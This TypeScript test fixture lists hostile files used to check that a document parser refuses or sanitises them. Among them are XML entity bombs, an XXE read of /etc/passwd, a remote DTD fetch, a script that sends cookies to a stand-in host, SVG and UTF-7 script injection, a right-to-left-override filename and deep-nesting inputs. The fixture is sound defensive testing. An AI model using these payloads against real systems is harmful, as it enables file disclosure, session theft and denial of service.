import { documentXml, docxOf, paragraph } from '../fixtures.ts'
import type { HostileFile } from './files.ts'
import { body, join, laughs, utf8, xlsxOf } from './parts.ts'

/** XML, pages and plain texts: entity bombs, scripts, nesting without end, order turned around. */
export const markup: readonly HostileFile[] = [
  // XML
  {
    what: 'a billion laughs',
    name: 'a.docx',
    make: () => docxOf('', { 'word/document.xml': laughs('w:document') + documentXml(paragraph('&i;')) }),
    refused: /unsafe-xml/,
  },
  {
    what: 'a billion laughs in a workbook',
    name: 'a.xlsx',
    make: () => xlsxOf('', { 'xl/workbook.xml': `${laughs('workbook')}<workbook>&i;</workbook>` }),
    refused: /unsafe-xml/,
  },
  {
    what: 'a file of the server as an entity',
    name: 'a.docx',
    make: () =>
      docxOf('', { 'word/document.xml': `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${documentXml(paragraph('&x;'))}` }),
    refused: /unsafe-xml/,
  },
  {
    what: 'entities of another machine by parameter',
    name: 'a.xlsx',
    make: () => xlsxOf('', { 'xl/workbook.xml': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd">%p;]><workbook/>' }),
    refused: /unsafe-xml/,
  },
  {
    what: 'elements five thousand deep',
    name: 'a.docx',
    make: () => docxOf('<w:sdt><w:sdtContent>'.repeat(5000) + '</w:sdtContent></w:sdt>'.repeat(5000)),
    refused: /too-deep/,
  },
  {
    what: 'a hundred thousand attributes',
    name: 'a.docx',
    make: () => docxOf(`<w:p ${Array.from({ length: 100_000 }, (_, n) => `a${n}="x"`).join(' ')}/>${paragraph(body)}`),
    refused: null,
    holds: body,
  },
  {
    what: 'XML that never ends',
    name: 'a.docx',
    make: () => docxOf('', { 'word/document.xml': documentXml(paragraph(body)).slice(0, -40) }),
    refused: /damaged/,
  },
  // Pages
  {
    what: 'a page with scripts, frames and forms',
    name: 'a.html',
    make: () =>
      utf8(
        `<!doctype html><title>x</title><script>fetch('http://198.51.100.7/'+document.cookie)</script><iframe src="http://198.51.100.7"></iframe><form action="http://198.51.100.7"><input value="secret"></form><p onclick="alert(1)">${body}</p><p style="display:none">看不见的话</p>`,
      ),
    refused: null,
    holds: body,
    without: /198\.51|fetch|alert|secret|看不见/,
  },
  {
    what: 'a picture in words (SVG) with a script',
    name: 'a.svg',
    make: () => utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script><text>x</text></svg>'),
    refused: null,
    holds: 'svg',
  },
  {
    what: 'a page twenty thousand elements deep',
    name: 'a.html',
    make: () => utf8(`<html>${'<div>'.repeat(20_000)}深`),
    refused: /too-deep/,
  },
  {
    what: 'a table in a table in a table, four thousand times',
    name: 'a.html',
    make: () => utf8(`<!doctype html>${'<table><tr><td>'.repeat(4000)}${body}`),
    refused: /too-deep|too-slow/,
  },
  {
    what: 'cells that claim to span a billion columns',
    name: 'a.html',
    make: () =>
      utf8(
        `<!doctype html><table><tr><td colspan="1000000000" rowspan="1000000000">${body}</td><td>乙</td></tr><tr><td>丙</td><td>丁</td></tr></table>`,
      ),
    refused: null,
    holds: body,
  },
  {
    what: 'an entity bomb in a page',
    name: 'a.html',
    make: () => utf8(`${laughs('html')}<html><p>${body}&i;</p></html>`),
    refused: null,
    holds: body,
    without: /哈哈哈哈哈哈哈哈哈哈哈/,
  },
  // Text
  { what: 'bytes of zero in a text', name: 'a.txt', make: () => utf8('问题清单\0第一条'), refused: /binary/ },
  {
    what: 'two marks of order and mixed encodings',
    name: 'a.txt',
    make: () => join(new Uint8Array([0xef, 0xbb, 0xbf, 0xff, 0xfe]), Buffer.from(body, 'utf16le')),
    refused: /binary|encoding/,
  },
  {
    what: 'a text in UTF-7, where < is +ADw-',
    name: 'a.html',
    make: () => utf8(`<!doctype html><meta charset="utf-7"><p>${body}+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>`),
    refused: null,
    holds: body,
    without: /<script/,
  },
  {
    what: 'a text whose order is turned around',
    name: '通知\u202excod.exe',
    make: () => utf8(`${body}\u202e反过来\u202c`),
    refused: null,
    holds: body,
    without: /\u202e/,
  },
  {
    what: 'lists in lists in a text, a hundred thousand deep',
    name: 'a.json',
    make: () => utf8(`${'['.repeat(100_000)}${body}${']'.repeat(100_000)}`),
    refused: null,
    holds: body,
  },
  {
    what: 'one line of a million opening brackets',
    name: 'a.txt',
    make: () => utf8(`${body}${'（'.repeat(600_000)}`),
    refused: null,
    holds: body,
  },
  { what: 'a hundred megabytes', name: 'a.txt', make: () => new Uint8Array(100 * 1024 * 1024).fill(0x41), refused: /too-large/ },
]
